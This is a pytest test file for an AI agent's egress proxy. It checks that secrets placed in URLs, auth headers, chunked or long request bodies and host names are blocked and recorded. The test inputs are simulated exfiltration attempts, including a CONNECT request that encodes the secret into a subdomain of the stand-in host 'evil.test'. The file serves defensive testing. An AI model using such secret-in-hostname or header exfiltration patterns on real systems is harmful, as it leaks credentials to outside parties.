"""Secrets on ways where none may go, through the real egress process: plain HTTP, and the names that are asked for."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.enforce.egress.secrets import HeldSecret
from agent.policy.model import Mode
from agent.policy.request import Protocol
from tests.enforce.egress.proxy import Proxy, Upstream, policy, read_all, read_head, rule, running, upstream
from tests.enforce.egress.test_http1 import answers

VALUE = "real-value-0123456789"
PLACEHOLDER = "parhelia-placeholder-api-00112233445566778899aabbccddeeff"
HELD = [HeldSecret("api", PLACEHOLDER, VALUE)]
NAMES = {"web.good.test": [["127.0.0.1"]]}


@pytest.fixture(scope="module")
def origin() -> Iterator[Upstream]:
    with upstream(answers) as server:
        yield server


@pytest.fixture(scope="module", params=[Mode.ENFORCE, Mode.OBSERVE], ids=str)
def proxy(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, origin: Upstream
) -> Iterator[Proxy]:
    given = policy(rule("web.good.test", origin.port, protocol=Protocol.HTTP), mode=request.param)
    with running(given, NAMES, tmp_path_factory.mktemp("leaks"), secrets=HELD) as started:
        yield started


@pytest.fixture
def clean(proxy: Proxy, origin: Upstream) -> Proxy:
    proxy.events.clear()
    origin.conversations.clear()
    Path(proxy.lookups_file).write_text("")
    return proxy


def request(origin: Upstream, target: str, *fields: str, body: bytes = b"", method: str = "GET") -> bytes:
    authority = f"web.good.test:{origin.port}"
    lines = [f"{method} http://{authority}{target} HTTP/1.1", f"Host: {authority}", "Connection: close", *fields]
    return "\r\n".join([*lines, "", ""]).encode() + body


@pytest.mark.parametrize(
    ("target", "fields", "where"),
    [
        (f"/{VALUE}", [], "the URL"),
        (f"/?x={PLACEHOLDER}", [], "the URL"),
        ("/", [f"Authorization: Bearer {PLACEHOLDER}"], "the header field authorization"),
        ("/", ["Authorization: Basic " + base64.b64encode(f"u:{VALUE}".encode()).decode()], "field authorization"),
        ("/", [f"{PLACEHOLDER}: x"], "the header field"),
    ],
)
def test_a_secret_in_a_plain_request_is_refused_and_recorded_and_nothing_leaves(
    clean: Proxy, origin: Upstream, target: str, fields: list[str], where: str
) -> None:
    said = clean.ask(request(origin, target, *fields))
    assert said.startswith(b"HTTP/1.1 403 ")
    assert b"X-Parhelia-Rule: secret-leak" in said
    event = clean.event(rule="secret-leak")
    assert event["result"] == "denied"
    assert where in event["details"]["reason"]
    assert not any(origin.conversations)


@pytest.mark.parametrize("framing", ["length", "chunked"])
def test_a_secret_in_a_plain_body_is_cut_before_it_is_whole(clean: Proxy, origin: Upstream, framing: str) -> None:
    body = b"x" * 100_000 + VALUE.encode() + b"y" * 1000
    field = "Transfer-Encoding: chunked" if framing == "chunked" else f"Content-Length: {len(body)}"
    pieces = [body[at : at + 7] for at in range(0, len(body), 7)]
    if framing == "chunked":
        pieces = [b"%x\r\n%b\r\n" % (len(piece), piece) for piece in pieces] + [b"0\r\n\r\n"]
    with clean.connect() as sock:
        sock.sendall(request(origin, "/", field, method="POST"))
        try:
            for piece in pieces:
                sock.sendall(piece)
            said = read_all(sock)
        except OSError:
            said = b""
    assert said == b"" or b"secret-leak" in said
    event = clean.event(rule="secret-leak")
    assert "the body" in event["details"]["reason"]
    assert VALUE.encode()[:4] not in b"".join(map(bytes, origin.conversations))


def test_a_plain_body_without_a_secret_arrives_as_it_was(clean: Proxy, origin: Upstream) -> None:
    body = b"parhelia-placeholder-" + VALUE.encode()[:-1]
    said = clean.ask(request(origin, "/", f"Content-Length: {len(body)}", body=body, method="POST"))
    assert said.startswith(b"HTTP/1.1 200 ")
    assert b"".join(map(bytes, origin.conversations)).endswith(body)


@pytest.mark.parametrize("name", [VALUE, PLACEHOLDER, VALUE[:9] + "." + VALUE[9:], VALUE.encode().hex()])
def test_a_secret_in_the_name_of_a_host_is_refused_before_any_lookup(clean: Proxy, name: str) -> None:
    with clean.connect() as sock:
        sock.sendall(f"CONNECT {name}.evil.test:443 HTTP/1.1\r\nHost: {name}.evil.test:443\r\n\r\n".encode())
        assert b"X-Parhelia-Rule: secret-leak" in read_head(sock)
    assert clean.event(rule="secret-leak")["result"] == "denied"
    assert clean.lookups() == []
